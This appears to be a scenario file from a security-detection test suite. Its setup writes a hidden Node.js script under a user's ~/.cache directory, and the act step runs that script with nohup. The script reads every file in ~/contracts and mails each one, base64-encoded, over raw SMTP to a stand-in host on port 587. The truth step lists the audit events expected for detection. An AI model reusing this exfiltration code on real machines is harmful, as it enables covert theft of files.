# A mailer written in a language of its own.
title="Node program speaks SMTP and sends files"
what="In a login without a terminal, nohup node runs a program below ~/.cache of clerk that reads every file of ~/contracts and sends each as an encoded message straight to 203.0.113.25 port 587."
host=ws3.example.org user=clerk daemons="cron sshd" audit_format=RAW

setup() {
  mkdir -p /home/clerk/contracts /home/clerk/.cache/v8; for n in 1 2 3 4; do head -c 30000 /dev/urandom > /home/clerk/contracts/c$n.odt; done
  cat > /home/clerk/.cache/v8/m.js <<'P'
const { readdirSync, readFileSync } = require('fs'), { connect } = require('net'), dir = process.env.HOME + '/contracts/';
const send = names => {
  const name = names.shift();
  if (!name) return;
  const lines = ['EHLO ws3', 'MAIL FROM:<c@example.com>', 'RCPT TO:<v@example.com>', 'DATA', 'Subject: ' + name + '\r\n\r\n' + readFileSync(dir + name).toString('base64').replace(/.{76}/g, '$&\r\n') + '\r\n.', 'QUIT'];
  const net = connect(587, '203.0.113.25');
  net.on('data', data => /^\d\d\d (?!.*-)/m.test(data) && lines.length && net.write(lines.shift() + '\r\n'));
  net.on('close', () => send(names));
  net.on('error', () => {});
};
send(readdirSync(dir));
P
  chown -R clerk: /home/clerk/contracts /home/clerk/.cache
}
act() {
  small_talk 2
  ssh_run clerk 'nohup node .cache/v8/m.js >/dev/null 2>&1; sleep 1'
  small_talk 1
}
truth() {
  exec_step start 'node .cache/v8/m.js' 'a program is started'
  file_step read 'node.* open(at)?:read NORMAL .*contracts/c1.odt' 'it reads the files'
  net_step send 'node.* 203.0.113.25:587' 'and sends them'
}
